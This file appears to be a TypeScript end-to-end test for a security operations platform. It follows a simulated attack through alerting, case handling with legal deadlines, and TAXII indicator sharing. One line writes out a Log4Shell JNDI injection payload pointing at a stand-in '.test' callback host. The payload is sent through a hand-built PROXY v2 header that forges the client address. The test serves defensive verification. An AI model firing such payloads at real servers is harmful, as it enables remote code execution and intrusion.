import { connect } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { operator, type Operator } from './operator.ts'
import type { Report, World } from './world.ts'

/** The host the attack wants our side to call; `.test` names exist nowhere (RFC 6761). */
const CALLBACK = 'cap-nhat-anh'
const DAY_MS = 86_400_000
const PATIENCE_MS = 20_000

type Alert = {
  id: string
  title: string
  level: string
  from: string | null
  count: number
  observables: { value: string; role: string }[]
}
type Ledger = { received: number; stored: number; rejected: Record<string, number>; pending: number; balanced: boolean }
type Case = {
  id: string
  observables: { value: string; indicator: string | null }[]
  clocks: { kind: string; due: string; start: string; article: { vi: string } | null }[]
  barred: { act: string }[]
  timeline: { kind: string }[]
}

/** What the second half of the journey goes on with. */
export type Travelled = {
  readonly callback: string
  readonly indicator: string
  readonly caseId: string
  readonly platform: Operator
  readonly telecom: Operator
  readonly authority: Operator
}

/** One attack on its way: event, alert, case, the contracted centre, indicator, the authority, the telecom. */
export async function travel(world: World, report: Report): Promise<Travelled> {
  const [platform, telecom, authority] = await Promise.all([
    operator(world, 'platform', ['analyst', 'auditor']),
    operator(world, 'telecom', ['analyst', 'auditor']),
    operator(world, 'authority', ['analyst', 'inspector', 'auditor']),
  ])
  // A name of this run's own: the same host is never proposed twice.
  const callback = `${CALLBACK}-${Date.now().toString(36)}.test`
  report.step('Tấn công thành sự kiện, rồi cảnh báo', 'An attack becomes events, then an alert')
  const attacker = { address: `198.18.77.${1 + (Date.now() % 250)}`, port: 40_001 }
  const answered = await proxied(world.proxied, attacker, `/tim-kiem?q=\${jndi:ldap://${callback}:1389/a}`)
  report.check(
    'cổng từ chối log4shell từ địa chỉ của kẻ tấn công',
    'the gateway refuses log4shell from the attacker’s own address',
    answered === 403,
    String(answered),
  )
  const began = performance.now()
  const alert = await until(async () => {
    const { items } = await platform.get<{ items: Alert[] }>('/api/detection/alerts?state=new&limit=100')
    return items.find((item) => item.observables.some(({ value }) => value === callback))
  })
  report.check(
    'luật Sigma báo động trong vài giây, kèm máy chủ bị đòi gọi ra',
    'a Sigma rule raises an alert within seconds, with the host that was to be called',
    alert !== undefined,
    `${((performance.now() - began) / 1000).toFixed(1)} s`,
  )
  if (!alert) throw new Error('no alert')
  const found = await until(async () => {
    const query = new URLSearchParams({ q: `callbackHost:${callback}` })
    const { events } = await platform.get<{ events: { kind: string; clientAddress: string }[] }>(`/api/events?${query}`)
    return events[0]
  })
  report.check(
    'tìm thấy sự kiện theo trường; không có giá trị nào của người dùng',
    'the event is found by its field',
    found?.kind === 'gateway.refused' && found.clientAddress === attacker.address,
  )
  const ledger = await until(async () => {
    const now = await platform.get<Ledger>('/api/events/ledger')
    return now.balanced && now.pending === 0 ? now : undefined
  })
  report.check(
    'sổ sự kiện cân: nhận = lưu + loại + đang chờ',
    'the ledger balances: received = stored + rejected + pending',
    ledger !== undefined && ledger.received === ledger.stored + sum(ledger.rejected) + ledger.pending,
    `${ledger?.received}`,
  )

  report.step('Vụ việc và hạn luật', 'A case with the law’s clocks')
  const { id } = await platform.send<Case>('POST', '/api/cases', { alert: alert.id })
  const serious = await platform.send<Case>('POST', `/api/cases/${id}/serious`, {})
  const hours = serious.clocks.map(({ start, due }) => (Date.parse(due) - Date.parse(start)) / 3_600_000)
  report.check(
    'hai hạn 24 giờ và 72 giờ chạy, có điều luật; chưa đóng được',
    'the clocks of 24 and 72 hours run with their article; it cannot be closed yet',
    hours.join() === '24,72' &&
      serious.clocks.every(({ article }) => article !== null) &&
      serious.barred.some(({ act }) => act === 'close'),
    serious.clocks[0]?.article?.vi ?? '',
  )
  const heard = await until(async () => {
    const { items } = await telecom.get<{ items: Alert[] }>('/api/detection/alerts?limit=100')
    return items.find((item) => item.from !== null && item.observables.some(({ value }) => value === callback))
  })
  report.check(
    'trung tâm được thuê nhận cảnh báo qua kênh có chữ ký',
    'the contracted centre has the alert over the signed channel',
    heard !== undefined,
    heard?.from ?? '',
  )

  report.step('Chỉ dấu đi qua TAXII', 'An indicator travels by TAXII')
  const validUntil = new Date(Date.now() + 14 * DAY_MS).toISOString()
  const proposal = { tlp: 'amber', confidence: 90, validUntil, caseId: id }
  const indicator = await platform.send<{ id: string }>('POST', '/api/exchange/indicators', {
    ...proposal,
    value: callback,
    kind: 'domain',
    role: 'c2',
  })
  const peers = await platform.get<{ items: { id: string; role: string }[] }>('/api/exchange/peers')
  const national = peers.items.filter(({ role }) => role === 'authority').map(({ id }) => id)
  await platform.send('POST', `/api/exchange/indicators/${indicator.id}/share`, { peers: national })
  const block = await platform.send<{ id: string }>('POST', '/api/exchange/indicators', {
    ...proposal,
    value: attacker.address,
    kind: 'ipv4',
    role: 'attacker',
    port: attacker.port,
    seenAt: new Date().toISOString(),
  })
  await platform.send('POST', `/api/exchange/indicators/${block.id}/share`, {})
  const refused = await platform
    .send('POST', '/api/exchange/indicators', { ...proposal, value: 'com.vn', kind: 'domain', role: 'c2' })
    .then(() => 'taken')
    .catch((error: Error) => error.message)
  report.check(
    'không ai đưa được com.vn vào danh sách',
    'nobody gets com.vn onto the list',
    refused.includes('public-suffix'),
    refused.slice(-40),
  )
  const at = performance.now()
  const arrived = await until(async () => {
    const list = await telecom.get<{ items: { id: string; value: string; usable: boolean }[] }>(
      `/api/exchange/indicators?q=${callback}`,
    )
    return list.items.find(({ usable }) => usable)
  })
  report.check(
    'nhà mạng kéo chỉ dấu về từ trung tâm quốc gia',
    'the telecom has pulled the indicator from the authority',
    arrived !== undefined,
    `${((performance.now() - at) / 1000).toFixed(1)} s`,
  )
  const suggestion = await until(async () => {
    const { items } = await telecom.get<{ items: { address: string; port: number; way: string }[] }>(
      '/api/exchange/blocks?way=in',
    )
    return items.find(({ address }) => address === attacker.address)
  })
  report.check(
    'địa chỉ tấn công thành đề nghị chặn kèm cổng, không thành chỉ dấu để tìm thuê bao',
    'the attacker’s address is a block suggestion with its port, never something to find subscribers by',
    suggestion?.port === attacker.port,
  )
  const shown = await platform.get<Case>(`/api/cases/${id}`)
  report.check(
    'vụ việc ghi lại đã chia sẻ gì',
    'the case says what was shared',
    shown.observables.some(({ value, indicator }) => value === callback && indicator !== null),
  )
  return { callback, indicator: arrived?.id ?? '', caseId: id, platform, telecom, authority }
}

/** Asks again until there is something, up to twenty seconds. */
export async function until<T>(look: () => Promise<T | undefined>): Promise<T | undefined> {
  const end = Date.now() + PATIENCE_MS
  for (;;) {
    const found = await look()
    if (found !== undefined || Date.now() > end) return found
    await wait(100)
  }
}

const sum = (counts: Readonly<Record<string, number>>): number => Object.values(counts).reduce((a, b) => a + b, 0)

/** One GET whose sender a PROXY v2 header names; the status that came back. */
function proxied(port: number, from: { address: string; port: number }, path: string): Promise<number> {
  const header = Buffer.alloc(28)
  Buffer.from('0d0a0d0a000d0a515549540a2111000c', 'hex').copy(header)
  Buffer.from(from.address.split('.').map(Number)).copy(header, 16)
  Buffer.from([127, 0, 0, 1]).copy(header, 20)
  header.writeUInt16BE(from.port, 24)
  header.writeUInt16BE(port, 26)
  const target = encodeURI(path).replaceAll('$', '%24')
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1')
    let text = ''
    socket.on('data', (chunk) => (text += String(chunk)))
    socket.on('close', () => resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0)))
    socket.on('error', reject)
    // Not ended: node:http gives up a request whose client has closed its side.
    socket.write(
      Buffer.concat([
        header,
        Buffer.from(
          `GET ${target} HTTP/1.1\r\nHost: localhost:${port}\r\nAccept: */*\r\nUser-Agent: demo\r\nConnection: close\r\n\r\n`,
        ),
      ]),
    )
  })
}
